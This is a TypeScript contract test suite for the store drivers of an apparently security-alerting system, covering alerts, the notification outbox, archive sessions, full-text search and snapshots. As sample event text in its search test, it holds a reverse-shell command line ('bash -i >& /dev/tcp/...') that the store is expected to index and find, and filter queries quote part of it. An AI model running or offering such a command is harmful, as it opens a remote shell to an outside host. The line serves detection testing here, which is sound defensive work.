/** What every driver of the store must do, as a suite that each driver's test runs against a real store. */
import type { Alert } from '../contracts/alert';
import type { AlertWrite, OutboxRow, Store, StoredAlert } from '../contracts/store';
import { errorCode } from '../platform/errors';
import { incidentContract } from './incident-contract';
import { alertOf, findingRowOf, outboxRowOf, sessionOf, sourceOf, textOf } from './sample-rows';

export interface StoreUnderTest {
  store: Store;
  /** Another connection to the same data, as another process has it. */
  another(): Promise<Store>;
  /** Closes everything and opens the same data again. */
  reopen(): Promise<Store>;
  /** Closes everything and removes the data. */
  remove(): Promise<void>;
}

const stored = (alert: Alert, revision = 0): StoredAlert => ({ alert, fold: '{}', revision });
const write = (parts: Partial<AlertWrite>): AlertWrite => ({
  at: 1_000,
  alerts: [],
  findings: [],
  outbox: [],
  ...parts,
});

const cursorOf = (page: { next?: string }): string => {
  if (page.next === undefined) throw new Error('the page is the last one');
  return page.next;
};

/** Declares the suite; `open` gives an empty store each time. */
export function storeContract(driver: string, open: () => Promise<StoreUnderTest>): void {
  describe(`the store on ${driver}`, () => {
    let tested: StoreUnderTest;
    let store: Store;
    beforeEach(async () => {
      tested = await open();
      store = tested.store;
    });
    afterEach(() => tested.remove());
    const refusal = (work: Promise<unknown>) => work.then(() => undefined, errorCode);

    describe('alerts', () => {
      const alert = alertOf({ id: 'a1' });

      test('an alert, its findings and its notifications are there again after it was opened anew', async () => {
        const finding = findingRowOf({ id: 'f1', alertId: 'a1', eventIds: ['e1', 'e2'] });
        const row = outboxRowOf({ id: 'n1', alertId: 'a1', traceparent: 'tp' });
        await store.writeAlerts(write({ alerts: [stored(alert)], findings: [finding], outbox: [row] }));
        store = await tested.reopen();
        expect(await store.alertsById(['a1', 'other'])).toEqual([alert]);
        const asked = [finding, findingRowOf({ id: 'f2', alertId: 'a1', eventIds: ['e2', 'e3'] })];
        expect(await store.foldGround(asked)).toEqual({
          alerts: [{ alert, fold: '{}', revision: 1 }],
          findings: ['f1'],
          events: [
            { alertId: 'a1', eventId: 'e1' },
            { alertId: 'a1', eventId: 'e2' },
            { alertId: 'a1', eventId: 'e2' },
          ],
        });
        expect((await store.outboxTake('ops', 5_000, 1_000)).row).toEqual(row);
      });

      test('a write on an old revision is refused whole', async () => {
        await store.writeAlerts(write({ alerts: [stored(alert)] }));
        const other = await tested.another();
        await other.writeAlerts(write({ alerts: [stored({ ...alert, count: 2 }, 1)] }));
        const late = write({
          alerts: [stored(alertOf({ id: 'a2' })), stored({ ...alert, count: 9 }, 1)],
          outbox: [outboxRowOf({ id: 'n1', alertId: 'a1' })],
        });
        expect(await refusal(store.writeAlerts(late))).toBe('store_conflict');
        expect(await refusal(store.writeAlerts(write({ alerts: [stored(alert)] })))).toBe('store_conflict');
        expect((await store.alertsById(['a1', 'a2'])).map(({ id, count }) => [id, count])).toEqual([['a1', 2]]);
        expect(await store.outboxTake('ops', 5_000, 1_000)).toEqual({});
      });

      test('a finding is taken in once', async () => {
        const first = write({ alerts: [stored(alert)], findings: [findingRowOf({ id: 'f1', alertId: 'a1' })] });
        await store.writeAlerts(first);
        const again = write({ alerts: [stored(alert, 1)], findings: [findingRowOf({ id: 'f1', alertId: 'a1' })] });
        expect(await refusal(store.writeAlerts(again))).toBe('store_conflict');
      });

      test('the list is newest first, page by page, also while alerts come in', async () => {
        const alerts = Array.from({ length: 7 }, (_, index) =>
          alertOf({ id: `a${index}`, createdAt: 100 + (index >> 1) }),
        );
        await store.writeAlerts(write({ alerts: alerts.map((each) => stored(each)) }));
        const first = await store.alerts({ limit: 3 });
        await store.writeAlerts(write({ alerts: [stored(alertOf({ id: 'late', createdAt: 999 }))] }));
        const second = await store.alerts({ limit: 3, cursor: cursorOf(first) });
        const third = await store.alerts({ limit: 3, cursor: cursorOf(second) });
        expect([first, second, third].map((page) => page.alerts.map(({ id }) => id))).toEqual([
          ['a6', 'a5', 'a4'],
          ['a3', 'a2', 'a1'],
          ['a0'],
        ]);
        expect(third.next).toBeUndefined();
      });

      test('the list is filtered', async () => {
        const alerts = [
          alertOf({ id: 'a1', severity: 'high', detector: 'one', session: 's1', firstSeen: 10, lastSeen: 20 }),
          alertOf({ id: 'a2', severity: 'low', detector: 'two', session: 's1', firstSeen: 30, lastSeen: 40 }),
          alertOf({ id: 'a3', severity: 'medium', state: 'resolved', tenant: 'other', firstSeen: 50, lastSeen: 60 }),
        ];
        await store.writeAlerts(write({ alerts: alerts.map((each) => stored(each)) }));
        const ids = async (query: Partial<Parameters<Store['alerts']>[0]>) =>
          (await store.alerts({ limit: 10, ...query })).alerts.map(({ id }) => id).sort();
        expect(await ids({ severity: ['high', 'medium'] })).toEqual(['a1', 'a3']);
        expect(await ids({ severity: [] })).toEqual([]);
        expect(await ids({ detector: 'two' })).toEqual(['a2']);
        expect(await ids({ session: 's1', severity: ['low'] })).toEqual(['a2']);
        expect(await ids({ state: 'resolved' })).toEqual(['a3']);
        expect(await ids({ tenant: 'other' })).toEqual(['a3']);
        expect(await ids({ since: 20, until: 50 })).toEqual(['a1', 'a2']);
        expect(await ids({ since: 21, until: 50 })).toEqual(['a2']);
        const changed = {
          ...alerts[0],
          entities: { host: 'build-2', user: 'mallory' },
          suppressedBy: 'u1',
          incident: 'i1',
        };
        await store.writeAlerts(write({ alerts: [stored(changed as Alert, 1)] }));
        for (const query of [{ host: 'build-2' }, { user: 'mallory' }, { incident: 'i1' }, { hidden: true }])
          expect(await ids(query)).toEqual(['a1']);
        expect(await ids({ hidden: false })).toEqual(['a2', 'a3']);
        expect(await ids({ text: 'MALLORY  connects' })).toEqual(['a1']);
        expect(await ids({ text: "/dev/tcp/203 build-1 ' %" })).toEqual([]);
        expect(await ids({ text: '/dev/tcp/203 build-1' })).toEqual(['a2', 'a3']);
      });

      test.each([
        ['an empty one', ''],
        ['no JSON', 'x'],
        ['no list', 'eyJhIjoxfQ'],
        ['that of another list', Buffer.from('["sessions",1,"a","b"]').toString('base64url')],
        ['wrong types', Buffer.from('["alerts","a",1]').toString('base64url')],
        ['a huge one', 'A'.repeat(5_000)],
      ])('a wrong cursor is refused: %s', async (_, cursor) => {
        expect(await refusal(store.alerts({ limit: 1, cursor }))).toBe('request_invalid');
      });
    });

    describe('the outbox', () => {
      const put = async (...rows: OutboxRow[]) => store.writeAlerts(write({ outbox: rows }));
      const take = async (now: number, from = store) => (await from.outboxTake('ops', now, 1_000)).row?.id;

      test('gives each message to one taker until its lease ends', async () => {
        await put(outboxRowOf({ id: 'n1', alertId: 'a1' }), outboxRowOf({ id: 'n2', alertId: 'a2' }));
        const other = await tested.another();
        expect([await take(100), await take(100, other), await take(100)]).toEqual(['n1', 'n2', undefined]);
        expect(await store.outboxTake('ops', 100, 1_000)).toEqual({ nextAt: 1_100 });
        expect(await take(1_100, other)).toBe('n1');
        await store.outboxRelease();
        expect(await take(1_100)).toBe('n1');
      });

      test('keeps the order of one alert, also while the first waits', async () => {
        await put(outboxRowOf({ id: 'n1', alertId: 'a1' }), outboxRowOf({ id: 'n2', alertId: 'a1' }));
        expect([await take(100), await take(100)]).toEqual(['n1', undefined]);
        await store.outboxRetry('n1', { nextAttemptAt: 700, error: 'busy', counted: true });
        expect(await store.outboxTake('ops', 100, 1_000)).toEqual({ nextAt: 700 });
        const { row } = await store.outboxTake('ops', 700, 1_000);
        expect(row).toMatchObject({ id: 'n1', attempts: 1 });
        await store.outboxDelivered('n1', 800);
        expect(await take(800)).toBe('n2');
      });

      test('a message that is there already stays as it is', async () => {
        await put(outboxRowOf({ id: 'n1', body: 'first' }));
        await put(outboxRowOf({ id: 'n1', body: 'second' }));
        expect((await store.outboxTake('ops', 100, 1_000)).row?.body).toBe('first');
        await store.outboxDelivered('n1', 200);
        await put(outboxRowOf({ id: 'n1' }));
        expect(await store.outboxTake('ops', 300, 1_000)).toEqual({});
      });

      test('giving back without an attempt does not count', async () => {
        await put(outboxRowOf({ id: 'n1' }));
        await take(100);
        await store.outboxRetry('n1', { nextAttemptAt: 100, error: 'stopped', counted: false });
        expect((await store.outboxTake('ops', 100, 1_000)).row).toMatchObject({ id: 'n1', attempts: 0 });
      });

      test('counts what waits and what is dead, by sink', async () => {
        await put(outboxRowOf({ id: 'n1', alertId: 'a1' }), outboxRowOf({ id: 'n2', alertId: 'a2' }));
        await put(outboxRowOf({ id: 'n3', alertId: 'a3' }), outboxRowOf({ id: 'n4', sink: 'other' }));
        await store.outboxDead('n2', 200, 'gone');
        await store.outboxDelivered('n3', 200);
        expect(await store.outboxCounts()).toEqual([
          { sink: 'ops', pending: 1, dead: 1 },
          { sink: 'other', pending: 1, dead: 0 },
        ]);
      });

      test('gives dead messages of a sink new life, with the ids that they had', async () => {
        await put(outboxRowOf({ id: 'n1', alertId: 'a1' }), outboxRowOf({ id: 'n2', alertId: 'a2', sink: 'other' }));
        await store.outboxRetry('n1', { nextAttemptAt: 100, error: 'busy', counted: true });
        for (const id of ['n1', 'n2']) await store.outboxDead(id, 200, 'gone');
        const other = await tested.another();
        expect(await other.outboxRevive('ops', 5_000)).toBe(1);
        expect(await other.outboxRevive('ops', 6_000)).toBe(0);
        expect(await take(4_999)).toBeUndefined();
        const { row } = await store.outboxTake('ops', 5_000, 1_000);
        expect(row).toEqual(outboxRowOf({ id: 'n1', alertId: 'a1', nextAttemptAt: 5_000 }));
        expect(await store.forgetAlertTraces(300)).toBe(1);
      });

      test('forgets what is finished and old, and finding ids, but no alert and nothing that waits', async () => {
        const finding = findingRowOf({ id: 'f1', alertId: 'a1', eventIds: ['e1'] });
        await store.writeAlerts(write({ at: 10, alerts: [stored(alertOf({ id: 'a1' }))], findings: [finding] }));
        await put(outboxRowOf({ id: 'n1', alertId: 'a1' }), outboxRowOf({ id: 'n2', alertId: 'a2' }));
        await store.outboxDelivered('n1', 20);
        expect(await store.forgetAlertTraces(10)).toBe(0);
        expect(await store.forgetAlertTraces(21)).toBe(3);
        expect(await store.foldGround([finding])).toMatchObject({
          alerts: [{ alert: { id: 'a1' } }],
          findings: [],
          events: [],
        });
        expect(await take(100)).toBe('n2');
      });
    });

    incidentContract(() => tested);

    describe('the archive', () => {
      const archive = (from: number, offset: number, parts: Partial<Parameters<Store['writeArchive']>[0]> = {}) => ({
        sessions: [],
        sources: [],
        search: [],
        offsets: [{ partition: 0, from, offset }],
        ...parts,
      });

      test('adds up sessions and sources, and stands at its offsets', async () => {
        const hidden = { field: 'action.command', state: 'hidden', setting: 'SHOW=1', firstSeen: 10 };
        const range = (from: number, to: number) => ({ partition: 0, from, to });
        const first = { sessions: [sessionOf({ ranges: [range(0, 5)] })], sources: [sourceOf({ hidden: [hidden] })] };
        await store.writeArchive(archive(0, 5, first));
        const second = {
          sessions: [
            sessionOf({ firstSeen: 20, lastSeen: 30, events: 2, host: 'h', ranges: [range(5, 7), range(9, 10)] }),
          ],
          sources: [sourceOf({ lastSeen: 30, hidden: [{ ...hidden, firstSeen: 30 }] })],
        };
        await store.writeArchive(archive(5, 10, second));
        store = await tested.reopen();
        const session = await store.session('default', 's1');
        expect(session).toMatchObject({
          firstSeen: 10,
          lastSeen: 30,
          events: 3,
          host: 'h',
          ranges: [range(0, 7), range(9, 10)],
        });
        expect(await store.session('other', 's1')).toBeUndefined();
        expect(await store.sources()).toEqual([sourceOf({ lastSeen: 30, events: 2, hidden: [hidden] })]);
        expect(await store.sources('other')).toEqual([]);
        expect(await store.archiveOffsets()).toEqual([{ partition: 0, offset: 10 }]);
      });

      test('takes each part of the stream once, and leaves no hole', async () => {
        const parts = { sessions: [sessionOf({})] };
        await store.writeArchive(archive(3, 5, parts));
        await store.writeArchive(archive(3, 5, parts));
        expect(await refusal(store.writeArchive(archive(4, 8, parts)))).toBe('store_conflict');
        expect(await refusal(store.writeArchive(archive(6, 8, parts)))).toBe('store_conflict');
        expect((await store.session('default', 's1'))?.events).toBe(1);
      });

      test('refuses for good what it can never hold, and then nothing of the write is there', async () => {
        const wrong = [
          { search: [textOf({ at: 0.5 })] },
          { search: [textOf({ text: undefined as unknown as string })] },
          { sessions: [sessionOf({ lastSeen: Number.NaN })] },
          { sessions: [sessionOf({ session: {} as string })] },
        ];
        for (const parts of wrong) {
          const write = archive(0, 1, { ...parts, sources: [sourceOf({})] });
          expect(await refusal(store.writeArchive(write))).toBe('store_refused');
        }
        expect(await store.sources()).toEqual([]);
        expect(await store.archiveOffsets()).toEqual([]);
      });

      test('lists sessions, last seen first', async () => {
        const sessions = ['a', 'b', 'c'].map((session, index) =>
          sessionOf({ session, lastSeen: 100 + index, tenant: index === 1 ? 'other' : 'default' }),
        );
        await store.writeArchive(archive(0, 1, { sessions }));
        const first = await store.sessions({ limit: 2 });
        const second = await store.sessions({ limit: 2, cursor: cursorOf(first) });
        expect([first, second].map((page) => page.sessions.map(({ session }) => session))).toEqual([['c', 'b'], ['a']]);
        expect(second.next).toBeUndefined();
        expect((await store.sessions({ limit: 5, tenant: 'other' })).sessions.map(({ session }) => session)).toEqual([
          'b',
        ]);
      });

      test('finds text by words and by the beginning of the last, newest first', async () => {
        const search = [
          textOf({ eventId: 'e1', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }),
          textOf({ eventId: 'e2', text: 'npm run "build" -- --watch', scope: 'session:x:2' }),
          textOf({ eventId: 'e3', text: 'bash build.sh', tenant: 'other' }),
        ];
        await store.writeArchive(archive(0, 1, { search }));
        const ids = async (text: string, more = {}) =>
          (await store.search({ text, limit: 10, ...more })).hits.map(({ eventId }) => eventId);
        expect(await ids('/dev/tcp/203.0.113.9')).toEqual(['e1']);
        expect(await ids('bash')).toEqual(['e3', 'e1']);
        expect(await ids('bash', { tenant: 'default' })).toEqual(['e1']);
        expect(await ids('bui', { scope: 'session:x:2' })).toEqual(['e2']);
        expect(await ids('"build" OR NOT ( *')).toEqual([]);
        expect(await ids('" * ( )')).toEqual([]);
        const first = await store.search({ text: 'bash', limit: 1 });
        expect((await store.search({ text: 'bash', limit: 1, cursor: cursorOf(first) })).hits[0]).toMatchObject({
          eventId: 'e1',
          offset: 7,
          snippet: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
        });
      });

      test('forgets what is old', async () => {
        const search = [
          textOf({ eventId: 'e1', at: 10, text: 'alpha' }),
          textOf({ eventId: 'e2', at: 50, text: 'alpha' }),
        ];
        const sessions = [sessionOf({ session: 'old', lastSeen: 10 }), sessionOf({ session: 'new', lastSeen: 50 })];
        await store.writeArchive(archive(0, 1, { search, sessions }));
        expect(await store.forgetArchive({ before: 20, maxBytes: 1e9 })).toEqual({ aged: 2, over: 0 });
        expect((await store.search({ text: 'alpha', limit: 9 })).hits.map(({ eventId }) => eventId)).toEqual(['e2']);
        expect((await store.sessions({ limit: 9 })).sessions.map(({ session }) => session)).toEqual(['new']);
      });
    });

    test('an archive that is too large drops its oldest text, then its oldest sessions', async () => {
      const search = Array.from({ length: 6_000 }, (_, n) =>
        textOf({ eventId: `e${n}`, at: n, text: `word ${'x'.repeat(500)}` }),
      );
      const sessions = [sessionOf({ session: 'old', lastSeen: 10 })];
      await store.writeArchive({ search, sessions, sources: [], offsets: [] });
      const forget = (maxBytes: number) => store.forgetArchive({ before: 0, maxBytes });
      expect(await forget(1e9)).toEqual({ aged: 0, over: 0 });
      expect(await forget(1_000_000)).toEqual({ aged: 0, over: 5_000 });
      const { hits } = await store.search({ text: 'word', limit: 2_000 });
      expect([hits.length, Math.min(...hits.map(({ at }) => at))]).toEqual([1_000, 5_000]);
      expect(await forget(1)).toEqual({ aged: 0, over: 1_000 });
      expect(await forget(1)).toEqual({ aged: 0, over: 1 });
      expect(await forget(1)).toEqual({ aged: 0, over: 0 });
    });

    describe('snapshots', () => {
      const snapshot = (generation: number, text: string) => ({
        group: 'gander-engine',
        partition: 1,
        generation,
        offsets: { 'gander.events.v1': 42 },
        state: new TextEncoder().encode(text),
        takenAt: 5,
      });

      test('the newest is there again after it was opened anew', async () => {
        await store.writeSnapshot(snapshot(3, 'first'));
        await store.writeSnapshot(snapshot(3, 'second'));
        store = await tested.reopen();
        expect(await store.snapshot('gander-engine', 1)).toEqual(snapshot(3, 'second'));
        expect(await store.snapshot('gander-engine', 2)).toBeUndefined();
      });

      test('one of an older generation is refused', async () => {
        await store.writeSnapshot(snapshot(4, 'new'));
        const other = await tested.another();
        expect(await refusal(other.writeSnapshot(snapshot(3, 'old')))).toBe('snapshot_fenced');
        expect((await store.snapshot('gander-engine', 1))?.generation).toBe(4);
      });
    });

    test('calls after closing are refused, and closing twice is fine', async () => {
      await store.close();
      await store.close();
      expect(await refusal(store.outboxCounts())).toBe('store_unavailable');
    });
  });
}
